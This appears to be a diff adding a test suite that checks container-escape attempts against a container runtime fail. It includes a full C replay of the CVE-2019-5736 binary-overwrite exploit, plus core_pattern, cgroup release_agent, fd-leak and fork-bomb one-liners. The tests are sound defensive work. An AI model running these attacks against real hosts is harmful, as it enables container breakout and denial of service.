@@ -1,0 +1,696 @@
+/**
+ * The escape suite: a container's attempts to reach the host, each of which must fail,
+ * with the failure asserted precisely. Real kernel, real CLI and launcher; SECURITY.md
+ * says which mechanism answers each attempt and which CVE it belongs to.
+ */
+import { after, before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn, spawnSync } from 'node:child_process';
+import { createHash, randomBytes } from 'node:crypto';
+import {
+  cpSync,
+  existsSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { createServer, type Server } from 'node:net';
+import { hostname, networkInterfaces, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import * as pty from 'node-pty';
+import { USERNS_SLOT_IDS, usernsPool } from '../../src/runtime/launcher.js';
+import { launcherPath, probePath } from '../../src/runtime/native.js';
+import { cliPath, containerCgroups, mdocker, repoRoot, rootOnly, waitFor, type RunResult } from './helpers.js';
+
+const skip = rootOnly();
+const imageDir = join(repoRoot, 'rootfs/images/busybox');
+const started: string[] = [];
+let scratch = '';
+
+/** The CLI with binary stdin (a program copied into a container). */
+function mdockerWithInput(args: string[], input: Buffer): Promise<RunResult> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, [cliPath, ...args], { stdio: ['pipe', 'pipe', 'pipe'] });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
+    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
+    const timer = setTimeout(() => {
+      child.kill('SIGKILL');
+      reject(new Error(`mdocker ${args.join(' ')} timed out; stderr=${stderr}`));
+    }, 60_000);
+    child.on('error', reject);
+    child.on('close', (code) => {
+      clearTimeout(timer);
+      resolve({ code: code ?? 125, stdout, stderr });
+    });
+    child.stdin.end(input);
+  });
+}
+
+/** Runs script in a fresh busybox container (stdin a pipe, so -i); extra flags first. */
+async function inside(script: string, flags: string[] = []): Promise<RunResult> {
+  return mdocker(['run', '-i', '--rm', ...flags, 'busybox', 'sh', '-c', script], { timeoutMs: 60_000 });
+}
+
+async function detached(args: string[]): Promise<string> {
+  const r = await mdocker(['run', '-d', ...args]);
+  assert.equal(r.code, 0, r.stderr);
+  const id = r.stdout.trim();
+  started.push(id);
+  return id;
+}
+
+async function copyIn(id: string, hostFile: string, path: string): Promise<void> {
+  const r = await mdockerWithInput(
+    ['exec', '-i', id, 'sh', '-c', `cat > ${path} && chmod 755 ${path}`],
+    readFileSync(hostFile),
+  );
+  assert.equal(r.code, 0, r.stderr);
+}
+
+function initPid(id: string): number {
+  return Number.parseInt(readFileSync(join('/run/mdocker', id, 'init.pid'), 'utf8'), 10);
+}
+
+function sha256(path: string): string {
+  return createHash('sha256').update(readFileSync(path)).digest('hex');
+}
+
+/** "Uid:\t1\t2\t3\t4" of a host process. */
+function statusIds(pid: number, key: 'Uid' | 'Gid'): number[] {
+  const line =
+    readFileSync(`/proc/${pid}/status`, 'utf8')
+      .split('\n')
+      .find((l) => l.startsWith(`${key}:`)) ?? '';
+  return line.split(/\s+/).slice(1).filter(Boolean).map(Number);
+}
+
+/** "N -> target" of `ls -l /proc/PID/fd` output. */
+function fdTargets(lsOutput: string): Map<number, string> {
+  const fds = new Map<number, string>();
+  for (const m of lsOutput.matchAll(/\s(\d+) -> (\S+)/g)) fds.set(Number(m[1]), m[2] ?? '');
+  return fds;
+}
+
+/** What may be open in a container: pipes, sockets, anonymous inodes and ptys. */
+const CONTAINER_FD = /^(pipe:\[\d+\]|socket:\[\d+\]|anon_inode:.+|\/dev\/pts\/\d+)$/;
+
+before(() => {
+  if (skip) return;
+  scratch = mkdtempSync(join(tmpdir(), 'mdocker-escape-'));
+});
+
+after(async () => {
+  for (const id of started) await mdocker(['rm', '-f', id]);
+  if (scratch) rmSync(scratch, { recursive: true, force: true });
+});
+
+describe('credentials', { skip }, () => {
+  test('capabilities, no_new_privs and seccomp in /proc/self/status, for run and exec', async () => {
+    // CHOWN DAC_OVERRIDE FOWNER FSETID KILL SETGID SETUID NET_BIND_SERVICE SYS_CHROOT
+    const expected = [
+      'CapInh:\t0000000000000000',
+      'CapPrm:\t00000000000404fb',
+      'CapEff:\t00000000000404fb',
+      'CapBnd:\t00000000000404fb',
+      'CapAmb:\t0000000000000000',
+      'NoNewPrivs:\t1',
+      'Seccomp:\t2',
+      'Seccomp_filters:\t1',
+    ];
+    const script = "grep -E '^(Cap|NoNewPrivs|Seccomp)' /proc/self/status";
+    const run = await inside(script);
+    assert.equal(run.code, 0, run.stderr);
+    assert.deepEqual(run.stdout.trim().split('\n'), expected);
+    const id = await detached(['busybox', 'sleep', '1000']);
+    const exec = await mdocker(['exec', id, 'sh', '-c', script]);
+    assert.deepEqual(exec.stdout.trim().split('\n'), expected, exec.stderr);
+  });
+
+  test("uid_map is not the identity: the container's root is an unprivileged host uid of a range of its own", async () => {
+    const pool = usernsPool();
+    const a = await detached(['busybox', 'sleep', '1000']);
+    const b = await detached(['busybox', 'sleep', '1000']);
+    // A process exec'd in joins the same user namespace and is its root too.
+    const bg = await mdocker(['exec', a, 'sh', '-c', 'sleep 1000 >/dev/null 2>&1 </dev/null &']);
+    assert.equal(bg.code, 0, bg.stderr);
+    const hostUids: number[] = [];
+    for (const id of [a, b]) {
+      const r = await mdocker(['exec', id, 'sh', '-c', 'cat /proc/self/uid_map /proc/self/gid_map; id']);
+      assert.equal(r.code, 0, r.stderr);
+      const [uidMap, gidMap, ids] = r.stdout
+        .trim()
+        .split('\n')
+        .map((l) => l.trim().split(/\s+/));
+      assert.equal(ids?.join(' '), 'uid=0(root) gid=0(root) groups=0(root)');
+      const hostUid = Number(uidMap?.[1]);
+      const hostGid = Number(gidMap?.[1]);
+      assert.deepEqual(uidMap, ['0', String(hostUid), String(USERNS_SLOT_IDS)]);
+      assert.deepEqual(gidMap, ['0', String(hostGid), String(USERNS_SLOT_IDS)]);
+      const slot = (hostUid - pool.uidBase) / USERNS_SLOT_IDS;
+      assert.ok(Number.isInteger(slot) && slot >= 0 && slot < pool.slots, `host uid ${hostUid} is a slot of the pool`);
+      assert.equal(hostGid, pool.gidBase + slot * USERNS_SLOT_IDS);
+      hostUids.push(hostUid);
+      // Seen from the host, every process of the container (init and exec'd) runs as it.
+      const pids = readFileSync(
+        join(containerCgroups([id]).find((p) => p.includes('/pids/')) ?? '', 'cgroup.procs'),
+        'utf8',
+      )
+        .trim()
+        .split('\n')
+        .map(Number);
+      assert.ok(pids.includes(initPid(id)));
+      for (const pid of pids) {
+        assert.deepEqual(statusIds(pid, 'Uid'), [hostUid, hostUid, hostUid, hostUid], `pid ${pid}`);
+        assert.deepEqual(statusIds(pid, 'Gid'), [hostGid, hostGid, hostGid, hostGid], `pid ${pid}`);
+      }
+    }
+    assert.notEqual(hostUids[0], hostUids[1], 'two running containers never share host ids');
+    // The opt-out for teaching: the identity map, container root is host root.
+    const host = await inside('cat /proc/self/uid_map', ['--userns', 'host']);
+    assert.deepEqual(host.stdout.trim().split(/\s+/), ['0', '0', '4294967295']);
+  });
+
+  test('rlimits: 1024 open files and no core dumps, neither raisable', async () => {
+    const r = await inside('ulimit -n; ulimit -c; ulimit -c unlimited; ulimit -n 4096; ulimit -Hn; ulimit -Hc');
+    assert.equal(r.stdout, '1024\n0\n1024\n0\n');
+    assert.equal(r.stderr, 'sh: error setting limit: Operation not permitted\n'.repeat(2));
+  });
+});
+
+describe("the kernel's knobs", { skip }, () => {
+  test('/proc/kcore and /proc/keys read empty (and the other masked paths)', async () => {
+    const r = await inside(
+      'for f in /proc/kcore /proc/keys /proc/timer_list /proc/interrupts; do ' +
+        '[ -e $f ] && echo "$f $(stat -c "%t:%T" $f) $(wc -c < $f)" || echo "$f absent"; done; ' +
+        'ls -A /proc/acpi | wc -l; ls -A /sys/firmware | wc -l',
+    );
+    assert.equal(r.code, 0, r.stderr);
+    // A masked file is the null device (1:3); one this kernel lacks stays absent.
+    const expect = (f: string) => (existsSync(f) ? `${f} 1:3 0` : `${f} absent`);
+    assert.deepEqual(r.stdout.trim().split('\n'), [
+      expect('/proc/kcore'),
+      expect('/proc/keys'),
+      expect('/proc/timer_list'),
+      expect('/proc/interrupts'),
+      '0',
+      '0',
+    ]);
+  });
+
+  test('writing /proc/sysrq-trigger or /proc/sys/kernel/core_pattern fails', async () => {
+    const corePattern = readFileSync('/proc/sys/kernel/core_pattern', 'utf8');
+    const r = await inside('echo c > /proc/sysrq-trigger; echo "|/tmp/pwn" > /proc/sys/kernel/core_pattern; true');
+    // This kernel may have no sysrq at all: then the file is absent inside too.
+    const sysrq = existsSync('/proc/sysrq-trigger') ? 'Read-only file system' : 'nonexistent directory';
+    assert.equal(
+      r.stderr,
+      `sh: can't create /proc/sysrq-trigger: ${sysrq}\n` +
+        "sh: can't create /proc/sys/kernel/core_pattern: Read-only file system\n",
+    );
+    assert.equal(readFileSync('/proc/sys/kernel/core_pattern', 'utf8'), corePattern);
+  });
+});
+
+describe('mounts', { skip }, () => {
+  test('mount tmpfs, umount a masked path, unshare -r and a cgroup v1 mount (CVE-2022-0492) are refused', async () => {
+    const r = await inside(
+      'mkdir -p /mnt/t /mnt/cg; mount -t tmpfs none /mnt/t; umount /proc/keys; unshare -r true; ' +
+        'mount -t cgroup -o pids cgroup /mnt/cg; ls /sys/fs/cgroup/*/release_agent; true',
+    );
+    assert.equal(
+      r.stderr,
+      'mount: permission denied (are you root?)\n' +
+        "umount: can't unmount /proc/keys: Operation not permitted\n" +
+        'unshare: unshare(0x10000000): Operation not permitted\n' +
+        'mount: permission denied (are you root?)\n' +
+        // The escape writes the release_agent of a hierarchy's root: the container sees
+        // only its own cgroups, which have none.
+        'ls: /sys/fs/cgroup/*/release_agent: No such file or directory\n',
+    );
+  });
+
+  test('the cgroup mounts are read-only, and pids.current is readable', async () => {
+    const id = await detached(['--pids-limit', '50', 'busybox', 'sleep', '1000']);
+    const r = await mdocker([
+      'exec',
+      id,
+      'sh',
+      '-c',
+      'grep -E " /sys/fs/cgroup" /proc/mounts | cut -d" " -f2,4 | cut -d, -f1; cat /sys/fs/cgroup/pids/pids.current; ' +
+        'echo 100000 > /sys/fs/cgroup/pids/pids.max; mkdir /sys/fs/cgroup/pids/escape; echo $$ > /sys/fs/cgroup/pids/cgroup.procs; true',
+    ]);
+    const lines = r.stdout.trim().split('\n');
+    assert.ok(lines.length >= 3, r.stdout);
+    for (const line of lines.slice(0, -1)) assert.match(line, /^\/sys\/fs\/cgroup(\/[a-z,_]+)? ro$/);
+    assert.match(lines.at(-1) ?? '', /^[1-9]\d*$/);
+    assert.equal(
+      r.stderr,
+      "sh: can't create /sys/fs/cgroup/pids/pids.max: Read-only file system\n" +
+        "mkdir: can't create directory '/sys/fs/cgroup/pids/escape': Read-only file system\n" +
+        "sh: can't create /sys/fs/cgroup/pids/cgroup.procs: Read-only file system\n",
+    );
+    const hostPids = containerCgroups([id]).find((p) => p.includes('/pids/')) ?? '';
+    assert.equal(readFileSync(join(hostPids, 'pids.max'), 'utf8').trim(), '50');
+  });
+
+  test('with --cap-add SYS_ADMIN the user namespace still keeps host files, sysctls and cgroup limits closed', async () => {
+    // Seccomp lets mount and umount through for SYS_ADMIN (Docker's rule); what is left
+    // is the user namespace: host root's files and the host's sysctls are not the
+    // container root's, and a cgroup hierarchy it mounts shows its own cgroup only.
+    const r = await inside(
+      'umount /proc/sys && echo "|/tmp/pwn" > /proc/sys/kernel/core_pattern; ' +
+        'mkdir -p /mnt/cg && mount -t cgroup -o pids cgroup /mnt/cg && ls /mnt/cg/release_agent; ' +
+        'echo 100000 > /mnt/cg/pids.max; mkdir /mnt/cg/escape; true',
+      ['--cap-add', 'SYS_ADMIN', '--pids-limit', '50'],
+    );
+    assert.equal(
+      r.stderr,
+      "sh: can't create /proc/sys/kernel/core_pattern: Permission denied\n" +
+        'ls: /mnt/cg/release_agent: No such file or directory\n' +
+        "sh: can't create /mnt/cg/pids.max: Permission denied\n" +
+        "mkdir: can't create directory '/mnt/cg/escape': Permission denied\n",
+    );
+  });
+
+  test('a --rootfs whose /proc or /dev is a symlink or a file is refused (CVE-2019-16884)', async () => {
+    const hostDir = mkdtempSync(join(scratch, 'target-'));
+    // A symlink as the last component is "not a directory" (O_NOFOLLOW|O_DIRECTORY); one
+    // further up the path is refused by RESOLVE_NO_SYMLINKS (ELOOP).
+    for (const [name, plant, error] of [
+      [
+        'proc',
+        (p: string) => symlinkSync(hostDir, p),
+        '/proc in the container must be a plain directory: Not a directory',
+      ],
+      [
+        'proc',
+        (p: string) => writeFileSync(p, ''),
+        '/proc in the container must be a plain directory: Not a directory',
+      ],
+      ['dev', (p: string) => symlinkSync('/', p), '/dev in the container must be a plain directory: Not a directory'],
+      ['dev', (p: string) => writeFileSync(p, ''), '/dev in the container must be a plain directory: Not a directory'],
+      [
+        'etc',
+        (p: string) => symlinkSync(hostDir, p),
+        'cannot create /etc/hostname in the container: Too many levels of symbolic links',
+      ],
+    ] as const) {
+      const rootfs = mkdtempSync(join(scratch, 'rootfs-'));
+      cpSync(imageDir, rootfs, { recursive: true, verbatimSymlinks: true });
+      rmSync(join(rootfs, name), { recursive: true, force: true });
+      plant(join(rootfs, name));
+      const r = await mdocker(['run', '--rm', '--rootfs', rootfs, '/bin/true']);
+      assert.equal(r.code, 125, `${name}: ${r.stderr}`);
+      assert.equal(r.stderr, `mdocker: ${error}\n`);
+      rmSync(rootfs, { recursive: true, force: true });
+    }
+    assert.deepEqual(readdirSync(hostDir), [], 'nothing was mounted or written through the symlink');
+  });
+});
+
+describe('files and descriptors', { skip }, () => {
+  test('a host sentinel file is unreachable through /proc/1/root, /proc/self/cwd and every fd', async () => {
+    const dir = mkdtempSync(join(scratch, 'sentinel-'));
+    const secret = randomBytes(8).toString('hex');
+    writeFileSync(join(dir, 'sentinel'), secret);
+    const script =
+      `cat ${dir}/sentinel /proc/1/root${dir}/sentinel /proc/self/cwd${dir}/sentinel; ` +
+      `for f in /proc/*/fd/* /proc/*/cwd /proc/*/root; do cat $f${dir}/sentinel; cat $f/../..${dir}/sentinel; done; ` +
+      `grep -rs ${secret} /bin /etc /home /mnt /root /run /tmp /usr /var; echo done`;
+    const id = await detached(['busybox', 'sleep', '1000']);
+    for (const r of [await inside(script), await mdocker(['exec', id, 'sh', '-c', script])]) {
+      assert.ok(!r.stdout.includes(secret) && !r.stderr.includes(secret), 'the sentinel leaked');
+      assert.equal(r.stdout.trim(), 'done');
+      assert.match(r.stderr, new RegExp(`cat: can't open '${dir}/sentinel': No such file or directory`));
+    }
+  });
+
+  test('only pipes, sockets, ptys and anonymous inodes are open in a container (CVE-2024-21626)', async () => {
+    const script = 'ls -l /proc/$$/fd';
+    const id = await detached(['busybox', 'sleep', '1000']);
+    const ptyOutput = await new Promise<string>((resolve) => {
+      const term = pty.spawn(process.execPath, [cliPath, 'run', '-t', '--rm', 'busybox', 'sh', '-c', script], {
+        cols: 120,
+        rows: 30,
+        env: process.env as Record<string, string>,
+      });
+      let out = '';
+      term.onData((d) => (out += d));
+      term.onExit(() => resolve(out));
+    });
+    for (const [how, output] of [
+      ['run -i', (await mdocker(['run', '-i', '--rm', 'busybox', 'sh', '-c', script])).stdout],
+      ['exec -i', (await mdocker(['exec', '-i', id, 'sh', '-c', script])).stdout],
+      ['run -t', ptyOutput],
+    ] as const) {
+      const fds = fdTargets(output);
+      assert.deepEqual([...fds.keys()], [0, 1, 2], `${how}: ${output}`);
+      for (const [fd, target] of fds) assert.match(target, CONTAINER_FD, `${how}: fd ${fd}`);
+    }
+  });
+
+  test('a working directory outside the container is refused (CVE-2024-21626)', async () => {
+    const id = await detached(['busybox', 'sleep', '1000']);
+    for (const n of [3, 4, 5, 6, 7, 8]) {
+      for (const r of [
+        await mdocker(['run', '--rm', '-w', `/proc/self/fd/${n}`, 'busybox', 'pwd']),
+        await mdocker(['exec', '-w', `/proc/self/fd/${n}`, id, 'pwd']),
+      ]) {
+        assert.equal(r.code, 125, r.stdout);
+        assert.match(
+          r.stderr,
+          new RegExp(
+            `^mdocker: cannot enter working directory /proc/self/fd/${n}: (Not a directory|No such file or directory)\n$`,
+          ),
+        );
+      }
+    }
+    const dots = await mdocker(['run', '--rm', '-w', '/../../../..', 'busybox', 'pwd']);
+    assert.equal(dots.stdout, '/\n');
+  });
+});
+
+/**
+ * CVE-2019-5736 replayed: the container turns a command an administrator may run into
+ * a "#!/proc/self/exe" script, so that `mdocker exec` runs the runtime's own binary in
+ * the container; an attacker process spinning on the PIDs to come keeps /proc/PID/exe
+ * of every runtime process it can open and, once that process is gone, reopens it for
+ * writing (the published exploit, in C: busybox is too slow to win the race).
+ */
+const ATTACK_C = String.raw`
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+static long last_pid (void) {
+  char buf[32] = { 0 };
+  int fd = open ("/proc/sys/kernel/ns_last_pid", O_RDONLY);
+  if (fd < 0 || read (fd, buf, sizeof (buf) - 1) <= 0) return -1;
+  close (fd);
+  return atol (buf);
+}
+static double now (void) {
+  struct timespec ts;
+  clock_gettime (CLOCK_MONOTONIC, &ts);
+  return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+int main (void) {
+  long base = last_pid (), denied = 0;
+  pid_t self = getpid ();
+  char path[64], target[256], self_fd[64];
+  setvbuf (stdout, NULL, _IOLBF, 0);
+  while (access ("/tmp/stop", F_OK) != 0) {
+    for (long p = base + 1; p <= base + 6; p++) {
+      int fd, w;
+      ssize_t n;
+      double give_up;
+      if (p == self) continue;
+      snprintf (path, sizeof (path), "/proc/%ld/exe", p);
+      fd = open (path, O_PATH | O_CLOEXEC);
+      if (fd < 0) {
+        if (errno == EACCES || errno == EPERM) denied++;
+        continue;
+      }
+      snprintf (self_fd, sizeof (self_fd), "/proc/self/fd/%d", fd);
+      n = readlink (self_fd, target, sizeof (target) - 1);
+      target[n > 0 ? n : 0] = '\0';
+      if (strstr (target, "busybox") || strstr (target, "attack")) { close (fd); continue; }
+      give_up = now () + 2;
+      do w = open (self_fd, O_WRONLY | O_CLOEXEC);
+      while (w < 0 && errno == ETXTBSY && now () < give_up);
+      if (w < 0) printf ("caught %s reopen=%s\n", target, strerrorname_np (errno));
+      else {
+        ssize_t r = write (w, "#!/bin/sh\necho pwned\n", 21);
+        printf ("caught %s reopen=ok write=%s\n", target, r == 21 ? "ok" : strerrorname_np (errno));
+        close (w);
+      }
+      close (fd);
+    }
+    long l = last_pid ();
+    if (l > base + 3) base = l - 3;
+  }
+  printf ("denied %ld\n", denied);
+  return 0;
+}
+`;
+
+describe("the launcher's binary (CVE-2019-5736)", { skip }, () => {
+  let attacker = '';
+  before(() => {
+    if (skip) return;
+    writeFileSync(join(scratch, 'attack.c'), ATTACK_C);
+    attacker = join(scratch, 'attack');
+    const cc = spawnSync('cc', ['-static', '-O2', '-o', attacker, join(scratch, 'attack.c')], { encoding: 'utf8' });
+    assert.equal(cc.status, 0, `the attacker must build (cc, static libc): ${cc.stderr}`);
+  });
+
+  for (const userns of ['private', 'host'] as const) {
+    test(`/proc/1/exe is the command, and an exec'd "#!/proc/self/exe" cannot reach or overwrite the launcher (--userns ${userns})`, async () => {
+      const hashBefore = sha256(launcherPath);
+      const id = await detached(['--userns', userns, 'busybox', 'sleep', '1000']);
+      const exe = await mdocker(['exec', id, 'readlink', '/proc/1/exe']);
+      assert.equal(exe.stdout, '/bin/busybox\n', exe.stderr);
+      await copyIn(id, attacker, '/tmp/attack');
+      const plant = await mdocker([
+        'exec',
+        id,
+        'sh',
+        '-c',
+        'rm /bin/ps && printf "#!/proc/self/exe\\n" > /bin/ps && chmod 755 /bin/ps',
+      ]);
+      assert.equal(plant.code, 0, plant.stderr);
+      const start = await mdocker(['exec', id, 'sh', '-c', '/tmp/attack > /tmp/attack.log 2>&1 </dev/null &']);
+      assert.equal(start.code, 0, start.stderr);
+      await sleep(200);
+      for (let i = 0; i < 6; i++) {
+        const r = await mdocker(['exec', id, 'ps']);
+        // This kernel refuses to execute a file outside the caller's root through the
+        // magic link (127, "not found"); one that allows it runs the launcher's sealed
+        // memfd copy, which stops at the unknown verb (125).
+        assert.ok(
+          (r.code === 127 && /executable file not found/.test(r.stderr)) ||
+            (r.code === 125 && /unknown verb/.test(r.stderr)),
+          `exec of the planted script: ${r.code} ${r.stderr}`,
+        );
+      }
+      await mdocker(['exec', id, 'touch', '/tmp/stop']);
+      const log = await waitFor(
+        'the attacker to report',
+        async () => {
+          const text = (await mdocker(['exec', id, 'cat', '/tmp/attack.log'])).stdout;
+          return /^denied \d+$/m.test(text) ? text : null;
+        },
+        20_000,
+      );
+      const caught = log.split('\n').filter((l) => l.startsWith('caught '));
+      const denied = Number(/^denied (\d+)$/m.exec(log)?.[1]);
+      // The attacker did race launcher processes: /proc/PID/exe of a launcher in the
+      // container was refused (it is not dumpable), or was the sealed copy.
+      assert.ok(denied + caught.length > 0, `the attack never reached a launcher process: ${log}`);
+      for (const line of caught) {
+        assert.match(line, /^caught \/memfd:mdocker-init \(deleted\) reopen=/, 'never the binary on disk');
+        assert.doesNotMatch(line, /write=ok/);
+      }
+      assert.equal(sha256(launcherPath), hashBefore, 'the launcher on disk is unchanged');
+    });
+  }
+});
+
+describe('processes, names, network and IPC', { skip }, () => {
+  test('host processes are invisible and cannot be killed', async () => {
+    // The glob is expanded by the shell itself, PID 1; killing it from inside is a no-op.
+    const r = await inside(`echo /proc/[0-9]*; kill -9 ${process.pid}; kill -9 1; echo alive`);
+    assert.equal(r.stdout, '/proc/1\nalive\n');
+    assert.equal(r.stderr, `sh: can't kill pid ${process.pid}: No such process\n`);
+    assert.ok(existsSync(`/proc/${process.pid}`));
+  });
+
+  test('a hostname change does not reach the host', async () => {
+    const hostBefore = hostname();
+    const r = await inside('hostname escaped; hostname', ['--hostname', 'inside']);
+    assert.equal(r.stderr, 'hostname: sethostname: Operation not permitted\n');
+    assert.equal(r.stdout, 'inside\n');
+    const admin = await inside('hostname escaped && hostname', ['--cap-add', 'SYS_ADMIN']);
+    assert.equal(admin.stdout, 'escaped\n', admin.stderr);
+    assert.equal(hostname(), hostBefore);
+  });
+
+  test("only lo, and the host's loopback servers are unreachable", async () => {
+    let connections = 0;
+    const server: Server = createServer((socket) => {
+      connections++;
+      socket.end();
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const port = (server.address() as { port: number }).port;
+    const hostAddress = Object.values(networkInterfaces())
+      .flat()
+      .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;
+    try {
+      const r = await inside(
+        `sed -n 's/^ *\\([^:]*\\):.*/\\1/p' /proc/net/dev; nc 127.0.0.1 ${port} </dev/null; ` +
+          (hostAddress ? `nc ${hostAddress} ${port} </dev/null; ` : '') +
+          'true',
+      );
+      assert.equal(r.stdout, 'lo\n');
+      assert.equal(
+        r.stderr,
+        "nc: can't connect to remote host (127.0.0.1): Connection refused\n" +
+          (hostAddress ? `nc: can't connect to remote host (${hostAddress}): Network is unreachable\n` : ''),
+      );
+      assert.equal(connections, 0);
+    } finally {
+      server.close();
+    }
+  });
+
+  test('host SysV IPC is invisible', async () => {
+    const made = spawnSync('ipcmk', ['-M', '4096'], { encoding: 'utf8' });
+    assert.equal(made.status, 0, made.stderr);
+    const shmid = /(\d+)/.exec(made.stdout)?.[1] ?? '';
+    try {
+      assert.match(readFileSync('/proc/sysvipc/shm', 'utf8'), new RegExp(`^\\s*-?\\d+\\s+${shmid}\\s`, 'm'));
+      const r = await inside('cat /proc/sysvipc/shm | wc -l; cat /proc/sysvipc/sem /proc/sysvipc/msg | wc -l');
+      assert.equal(r.stdout, '1\n2\n', 'the headers alone');
+    } finally {
+      spawnSync('ipcrm', ['-m', shmid]);
+    }
+  });
+
+  test('mknod of a device is refused; a FIFO is allowed', async () => {
+    const r = await inside('mknod /tmp/sda b 8 0; mknod /tmp/mem c 1 1; mkfifo /tmp/fifo && echo fifo');
+    assert.equal(r.stderr, 'mknod: /tmp/sda: Operation not permitted\nmknod: /tmp/mem: Operation not permitted\n');
+    assert.equal(r.stdout, 'fifo\n');
+  });
+});
+
+describe('resources', { skip }, () => {
+  test('a fork bomb stops at the pids limit while the host stays responsive', { timeout: 120_000 }, async () => {
+    // A playground container's default limits.
+    const id = await detached(['--pids-limit', '256', '--cpus', '0.5', '-m', '256m', 'busybox', 'sleep', '1000']);
+    const pidsDir = containerCgroups([id]).find((p) => p.includes('/pids/')) ?? '';
+    const bomb = await mdocker(['exec', id, 'sh', '-c', 'b() { b | b & }; b >/dev/null 2>&1 </dev/null']);
+    assert.equal(bomb.code, 0, bomb.stderr);
+    await waitFor(
+      'the bomb to reach the limit',
+      () => readFileSync(join(pidsDir, 'pids.current'), 'utf8').trim() === '256',
+      30_000,
+    );
+    const latenciesMs: number[] = [];
+    for (const deadline = Date.now() + 3000; Date.now() < deadline;) {
+      const t0 = performance.now();
+      assert.equal(spawnSync('/bin/true').status, 0);
+      latenciesMs.push(performance.now() - t0);
+    }
+    latenciesMs.sort((x, y) => x - y);
+    const median = latenciesMs[Math.floor(latenciesMs.length / 2)] ?? Infinity;
+    const worst = latenciesMs.at(-1) ?? Infinity;
+    assert.ok(
+      median < 200 && worst < 2000,
+      `host latency of /bin/true: median ${median.toFixed(1)} ms, worst ${worst.toFixed(1)} ms`,
+    );
+    assert.equal(readFileSync(join(pidsDir, 'pids.current'), 'utf8').trim(), '256', 'still contained');
+    assert.match(readFileSync(join(pidsDir, 'pids.events'), 'utf8'), /^max [1-9]\d*$/m);
+    assert.equal((await mdocker(['rm', '-f', id])).code, 0);
+    await waitFor('the bomb gone with its cgroup', () => !existsSync(pidsDir), 10_000);
+  });
+
+  test('a memory hog is OOM-killed (137) inside its own cgroup', { timeout: 60_000 }, async () => {
+    const id = await detached(['-m', '16m', 'busybox', 'sleep', '1000']);
+    const hog = await mdocker(['exec', id, 'sh', '-c', 'x=aaaaaaaa; while :; do x=$x$x; done'], { timeoutMs: 60_000 });
+    assert.equal(hog.code, 137);
+    const memoryDir = containerCgroups([id]).find((p) => p.includes('/memory/')) ?? containerCgroups([id])[0] ?? '';
+    const events = existsSync(join(memoryDir, 'memory.oom_control'))
+      ? readFileSync(join(memoryDir, 'memory.oom_control'), 'utf8')
+      : readFileSync(join(memoryDir, 'memory.events'), 'utf8');
+    assert.match(events, /^oom_kill [1-9]\d*$/m);
+    const alive = await mdocker(['exec', id, 'true']);
+    assert.equal(alive.code, 0, 'the container lives on: only the hog was killed');
+  });
+});
+
+describe('the syscall probe', { skip }, () => {
+  const EPERM = 'ret=-1 errno=1 (Operation not permitted)';
+  const ENOSYS = 'ret=-1 errno=38 (Function not implemented)';
+  const expected: Record<string, string | RegExp> = {
+    keyctl: EPERM,
+    add_key: EPERM,
+    request_key: EPERM,
+    bpf: EPERM,
+    perf_event_open: EPERM,
+    userfaultfd: EPERM,
+    io_uring_setup: EPERM,
+    setns: EPERM,
+    'unshare(CLONE_NEWUSER)': EPERM,
+    'clone(CLONE_NEWPID)': EPERM,
+    clone: /^ret=[1-9]\d* errno=0 \(Success\)$/,
+    clone3: ENOSYS, // so that libc falls back to clone, whose flags seccomp can read
+    mount: EPERM,
+    umount2: EPERM,
+    pivot_root: EPERM,
+    fsopen: EPERM,
+    kexec_load: EPERM,
+    init_module: EPERM,
+    finit_module: EPERM,
+    delete_module: EPERM,
+    open_by_handle_at: EPERM,
+    'ptrace(PTRACE_TRACEME)': EPERM,
+    acct: EPERM,
+    reboot: EPERM,
+    clock_settime: EPERM,
+    syslog: EPERM,
+    swapon: EPERM,
+    'personality(ADDR_NO_RANDOMIZE)': ENOSYS,
+    'socket(AF_VSOCK)': EPERM,
+    'socket(AF_INET,SOCK_RAW)': EPERM,
+    'mknod(c 1:3)': EPERM,
+    chroot: 'ret=0 errno=0 (Success)',
+    sethostname: EPERM,
+    // Another ABI's numbers: the filter kills the process. int 0x80 segfaults instead
+    // where the kernel runs no 32-bit code (ia32_emulation=off).
+    'x32 getpid': 'killed by signal 31 (Bad system call)',
+    'int80 getpid': /^killed by signal (31 \(Bad system call\)|11 \(Segmentation fault\))$/,
+  };
+
+  for (const userns of ['private', 'host'] as const) {
+    test(`every call the probe makes gets the expected answer (--userns ${userns})`, async () => {
+      const r = await mdockerWithInput(
+        [
+          'run',
+          '-i',
+          '--rm',
+          '--userns',
+          userns,
+          'busybox',
+          'sh',
+          '-c',
+          'cat > /tmp/probe && chmod 755 /tmp/probe && /tmp/probe',
+        ],
+        readFileSync(probePath),
+      );
+      assert.equal(r.code, 0, r.stderr);
+      const answers = new Map<string, string>();
+      for (const line of r.stdout.trim().split('\n')) {
+        const m = /^(.+?) (ret=.*|killed by signal .*)$/.exec(line);
+        assert.ok(m?.[1] && m[2], `unexpected probe line: ${line}`);
+        answers.set(m[1], m[2]);
+      }
+      assert.deepEqual([...answers.keys()], Object.keys(expected));
+      for (const [name, answer] of answers) {
+        const want = expected[name] ?? '';
+        if (typeof want === 'string') assert.equal(answer, want, name);
+        else assert.match(answer, want, name);
+      }
+    });
+  }
+});
